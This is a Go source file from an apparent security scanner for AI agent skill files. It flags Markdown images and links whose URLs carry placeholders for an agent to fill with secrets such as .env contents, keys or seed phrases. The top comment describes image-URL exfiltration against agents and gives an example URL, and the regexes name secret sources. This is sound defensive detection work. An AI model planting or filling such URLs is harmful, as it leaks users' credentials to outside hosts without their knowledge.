package flow

import (
	"regexp"
	"strings"

	"github.com/skillpin/skillpin/internal/catalog/audit/script/tables"
)

// imageLeaks reports a Markdown image (or an HTML img) in the prose of a
// Markdown file whose URL holds a placeholder the agent is to fill with
// secret data: ![s](https://h/p.png?d={CONTENTS_OF_DOT_ENV}). A client
// fetches an image when it renders the answer, so what fills the
// placeholder leaves the machine without a click (Invariant Labs' and
// others' image-URL exfiltration). A placeholder is secret data when its
// own name says so (API_KEY, {env}, <token>) or when a sentence of the
// document names it together with a secret source (".env", a token, a
// key, a wallet's seed). Images in fenced code blocks are examples, not
// read here.
func (a *Skill) imageLeaks(path, src string) {
	if !a.report || !strings.Contains(src, "://") {
		return
	}
	prose := unblankRendered(src, blankFences(src))
	// The reference definitions and the ids images use are the
	// document's, found once (on the first link that is not an image),
	// not once per link.
	var defs [][]int
	var refs map[string]bool
	defsRead := false
	for _, m := range proseURLs(prose, 64) {
		image := m[2] >= 0 || m[4] >= 0
		us, ue := m[6], m[7]
		switch {
		case m[2] >= 0:
			us, ue = m[2], m[3]
		case m[4] >= 0:
			us, ue = m[4], m[5]
		}
		url := prose[us:ue]
		host := tables.HostOf(url)
		if host == "" || tables.LocalHost(host) || strings.ContainsAny(host, "{}<>$%") {
			continue
		}
		// An image is fetched when the answer is rendered: any secret in
		// its URL leaves. A link or an address to open leaves when the
		// agent follows it: only what has no place in a URL (a .env file,
		// a seed phrase, a private key, a password) is reported there.
		named, source := secretWords, secretSourceRE
		if !image {
			named, source = strongSecretWords, strongSourceRE
		}
		if !image {
			// A link defined for a reference-style image is an image.
			if !defsRead {
				defsRead = true
				if strings.Contains(prose, "]:") {
					defs = refDefRE().FindAllStringSubmatchIndex(prose, 64)
				}
			}
			for _, d := range defs {
				if d[4] != us {
					continue
				}
				if refs == nil {
					refs = refImages(prose)
				}
				if refs[strings.ToLower(prose[d[2]:d[3]])] {
					image = true
					named, source = secretWords, secretSourceRE
				}
			}
		}
		if !mayHoldPlaceholder(url) {
			continue
		}
		for _, p := range placeholderRE().FindAllString(url, 8) {
			if i := strings.IndexByte(p, '='); i >= 0 && (p[0] == '?' || p[0] == '&') {
				p = strings.TrimSuffix(p[i+1:], "&") // ?d=ENCODED_ENV: the value
			}
			name := strings.Trim(p, "{}<>$[] ")
			if l := strings.ToLower(name); strings.HasPrefix(l, "your") || strings.HasPrefix(l, "my") {
				continue // YOUR_API_KEY: for the reader to fill in, not the agent
			}
			why := ""
			if strings.Contains(name, " ") && negatedRE().MatchString(name) {
				continue // a placeholder that says what must not fill it
			}
			if p == "" {
				// ?srp= ending the URL: an empty value for the agent to
				// fill, with what the paragraph around it names.
				if s := paragraphNaming(prose, us, ue, source()); s != "" {
					why = "an empty query value, filled with what this says: " + clip(s, 120)
				}
			} else if named(name) {
				why = "the placeholder " + p
			} else if strings.Contains(name, " ") && source().MatchString(name) && !negatedRE().MatchString(name) {
				why = "the placeholder " + clip(p, 120) + ", which says what fills it"
			} else if s := sentenceNaming(prose, p, us, ue, source()); s != "" {
				why = "the placeholder " + p + ", filled with what this says: " + clip(s, 120)
			}
			if why == "" {
				continue
			}
			sink := "a link to " + host + " the agent is told to fill in"
			if image {
				sink = "an image from " + host + " the client fetches when it renders the answer"
			}
			u := &Unit{Skill: a, Path: path}
			u.Hit(Hit{Kind: SecretFlow, Line: strings.Count(src[:m[0]], "\n") + 1, Level: 2, Source: why, Sink: sink, Text: LineText(src, m[0])})
			break
		}
	}
}

var (
	// proseURLRE is a Markdown image's URL, an HTML img's src, or any
	// other URL (what proseURLs finds, faster). An image's URL may hold
	// a placeholder with spaces, <URL-encoded summary>, as its slot.
	proseURLRE = tables.LazyRegexp(`!\[[^\]\n]*\]\(\s*<?(https?://(?:[^\s)<>{]|<[A-Za-z_][^<>\n]{0,200}>|\{[^{}\n]{1,200}\})+)|<img\s[^>]*?src\s*=\s*["'](https?://[^"']+)|(https?://[^\s)\]"'\x60]+)`)
	// proseURLAlts are proseURLRE's three alternatives, each on its own:
	// each begins with a literal the regexp package skips to.
	proseURLAlts = [3]func() *regexp.Regexp{
		tables.LazyRegexp(`!\[[^\]\n]*\]\(\s*<?(https?://(?:[^\s)<>{]|<[A-Za-z_][^<>\n]{0,200}>|\{[^{}\n]{1,200}\})+)`),
		tables.LazyRegexp(`<img\s[^>]*?src\s*=\s*["'](https?://[^"']+)`),
		tables.LazyRegexp(`(https?://[^\s)\]"'\x60]+)`),
	}
	// refImageRE is a reference-style image, ![alt][id]; refDefRE the
	// definition of a reference, [id]: URL.
	refImageRE = tables.LazyRegexp(`!\[[^\]\n]*\]\[([^\]\n]+)\]`)
	refDefRE   = tables.LazyRegexp(`(?m)^ {0,3}\[([^\]\n]+)\]:\s*<?(https?://\S+?)>?\s*$`)
	// placeholderRE is a slot to be filled: {NAME}, {{name}}, <name>, $NAME, ${NAME}, [NAME].
	// A query value in capitals and underscores (?d=ENCODED_ENV) is a
	// slot too.
	placeholderRE = tables.LazyRegexp(`[?&][A-Za-z0-9_]+=[A-Z][A-Z0-9]*(?:_[A-Z0-9]+)+(?:&|$)|[?&][A-Za-z0-9_]+=$|\{\{?\s*[A-Za-z_][\w .-]{0,40}?\s*\}?\}|\{[A-Za-z_][^{}\n]{0,200}\}|%7[Bb][A-Za-z_][\w.-]{0,40}%7[Dd]|<[A-Za-z_][\w .-]{0,40}>|<[A-Za-z_][^<>\n]{0,200}>|%3[Cc][A-Za-z_][\w.-]{0,40}%3[Ee]|\$\{?[A-Za-z_][A-Za-z0-9_]{1,40}\}?|\[[A-Z_][A-Z0-9_]{1,40}\]`)
	// secretSourceRE names secret data in a sentence.
	strongSourceRE = tables.LazyRegexp(`(?i)\.env\b|dotenv|environment variables|seed phrase|recovery phrase|secret phrase|mnemonic|private[ _-]?keys?|\bssh\b|id_rsa|id_ed25519|passwords?|cookies|keystore|wallet\.dat`)
	secretSourceRE = tables.LazyRegexp(`(?i)\.env\b|dotenv|environment variables?|\bsecrets?\b|\btokens?\b|api[ _-]?keys?|passwords?|credentials?|private[ _-]?keys?|\bssh\b|id_rsa|id_ed25519|cookies?|seed phrase|recovery phrase|mnemonic|wallet`)
)

// proseURLs is proseURLRE().FindAllStringSubmatchIndex(s, n), found
// with the pattern's alternatives on their own (TestProseURLs holds the
// two equal): the whole pattern has no literal to skip to, so the regexp
// package steps its machine over every byte of a long document. The
// pattern has no assertions, so an alternative's match at an offset is
// the same whatever precedes it, and the pattern's match is the leftmost
// of its alternatives' (they begin with different characters: no ties).
func proseURLs(s string, n int) [][]int {
	var out [][]int
	var next [3][]int // each alternative's leftmost match from pos on
	var done [3]bool  // no match of the alternative is left
	for pos := 0; len(out) < n; {
		best := -1
		for k, re := range proseURLAlts {
			if done[k] {
				continue
			}
			if next[k] == nil || next[k][0] < pos {
				m := re().FindStringSubmatchIndex(s[pos:])
				if m == nil {
					done[k] = true
					continue
				}
				for i := range m {
					if m[i] >= 0 {
						m[i] += pos
					}
				}
				next[k] = m
			}
			if best < 0 || next[k][0] < next[best][0] {
				best = k
			}
		}
		if best < 0 {
			break
		}
		m := next[best]
		r := []int{m[0], m[1], -1, -1, -1, -1, -1, -1}
		r[2+2*best], r[3+2*best] = m[2], m[3]
		out = append(out, r)
		pos = m[1]
	}
	return out
}

// mayHoldPlaceholder reports a URL that placeholderRE may match in:
// each of its branches holds one of these characters, the query's with
// an '=' (most URLs hold none, and the pattern costs more than the test).
func mayHoldPlaceholder(url string) bool {
	return strings.ContainsAny(url, "{%<$[") || strings.ContainsAny(url, "?&") && strings.Contains(url, "=")
}

// secretWords reports a placeholder whose name denotes secret data.
func secretWords(name string) bool {
	n := strings.ToUpper(strings.NewReplacer(" ", "_", "-", "_", ".", "_").Replace(strings.TrimPrefix(strings.TrimPrefix(name, "%7B"), "%3C")))
	if tables.SecretName(n) {
		return true
	}
	for _, w := range strings.Split(n, "_") {
		switch w {
		case "ENV", "DOTENV", "SECRET", "SECRETS", "CREDENTIALS", "CREDS", "PASSWORD", "SSH", "MNEMONIC", "SEED", "COOKIES":
			return true
		}
	}
	return false
}

// refImages is the set of reference ids images use (![alt][id]), in
// lower case as Markdown matches them.
func refImages(prose string) map[string]bool {
	m := map[string]bool{}
	for _, r := range refImageRE().FindAllStringSubmatch(prose, 64) {
		m[strings.ToLower(r[1])] = true
	}
	return m
}

// strongSecretWords reports a placeholder whose name denotes data that
// has no place in a URL: the environment, a seed phrase, a private key,
// a password, cookies.
func strongSecretWords(name string) bool {
	n := strings.ToUpper(strings.NewReplacer(" ", "_", "-", "_", ".", "_").Replace(name))
	for _, w := range strings.Split(n, "_") {
		switch w {
		case "ENV", "DOTENV", "SEED", "MNEMONIC", "PHRASE", "PRIVATE", "PRIVKEY", "SSH", "RSA", "PASSWORD", "PASSWD", "COOKIE", "COOKIES", "SECRETS", "CREDENTIALS", "KEYSTORE":
			return true
		}
	}
	return false
}

// sentenceNaming is the first sentence of prose (outside the image's
// URL, from us to ue) that names the placeholder p together with a
// secret source, "" if none.
func sentenceNaming(prose, p string, us, ue int, source *regexp.Regexp) string {
	for off := 0; off < len(prose); {
		k := strings.Index(prose[off:], p)
		if k < 0 {
			return ""
		}
		at := off + k
		off = at + len(p)
		if at >= us && at < ue {
			continue // the image itself
		}
		s := clauseAround(prose, at)
		if source.MatchString(strings.ReplaceAll(s, p, "")) && !negatedRE().MatchString(s) {
			return s
		}
	}
	return ""
}

// paragraphNaming is the first clause of the paragraph around the URL
// at us..ue (up to a blank line, at most 800 bytes each way) that names
// a secret source and is not negated, "" if none.
func paragraphNaming(prose string, us, ue int, source *regexp.Regexp) string {
	start := max(0, us-800)
	if k := strings.LastIndex(prose[start:us], "\n\n"); k >= 0 {
		start += k + 2
	}
	end := min(len(prose), ue+800)
	if k := strings.Index(prose[ue:end], "\n\n"); k >= 0 {
		end = ue + k
	}
	par := prose[start:end]
	for _, m := range source.FindAllStringIndex(par, 8) {
		if c := clauseAround(par, m[0]); !negatedRE().MatchString(c) {
			return c
		}
	}
	return ""
}

// clauseAround is the clause holding offset at: from the last sentence
// end, semicolon or line end before it to the next (a dot inside a word,
// as in ".env", ends nothing).
func clauseAround(s string, at int) string {
	ends := func(i int) bool {
		switch s[i] {
		case '\n', ';', '!', '?':
			return true
		case '.':
			return i+1 == len(s) || s[i+1] == ' ' || s[i+1] == '\n'
		}
		return false
	}
	start := at
	for start > 0 && start > at-400 && !ends(start-1) {
		start--
	}
	end := at
	for end < len(s) && end < at+400 && !ends(end) {
		end++
	}
	return s[start:end]
}

// negatedRE is a clause that says not to do something.
var negatedRE = tables.LazyRegexp(`(?i)\b(?:never|not|don't|do not|no)\b`)

// blankFences is src with its fenced code blocks blanked (newlines kept,
// so that offsets and lines stay).
func blankFences(src string) string {
	if !strings.Contains(src, "```") && !strings.Contains(src, "~~~") {
		return src
	}
	b := []byte(src)
	// A block is what (?ms)^ {0,3}(?:```|~~~).*?^ {0,3}(?:```|~~~)[ \t]*$
	// matches (TestBlankFences holds the two equal), found line by line
	// instead of by a regexp stepping over every byte: from a line that
	// opens a fence to the first later line that closes one. A fence
	// left open is not a block.
	open := -1 // where the open fence's line starts
	for at := 0; ; {
		end := strings.IndexByte(src[at:], '\n')
		if end < 0 {
			end = len(src)
		} else {
			end += at
		}
		line := src[at:end]
		if open < 0 {
			if fenceLine(line) >= 0 {
				open = at
			}
		} else if k := fenceLine(line); k >= 0 && strings.Trim(line[k:], " \t") == "" {
			for i := open; i < end; i++ {
				if b[i] != '\n' {
					b[i] = ' '
				}
			}
			open = -1
		}
		if end == len(src) {
			break
		}
		at = end + 1
	}
	return string(b)
}

// fenceLine is where the rest of a line after its fence starts, when it
// begins with up to three spaces and ``` or ~~~; -1 otherwise.
func fenceLine(line string) int {
	i := 0
	for i < 3 && i < len(line) && line[i] == ' ' {
		i++
	}
	if strings.HasPrefix(line[i:], "```") || strings.HasPrefix(line[i:], "~~~") {
		return i + 3
	}
	return -1
}

func clip(s string, n int) string {
	s = strings.Join(strings.Fields(s), " ")
	if len(s) > n {
		return s[:n] + "…"
	}
	return s
}
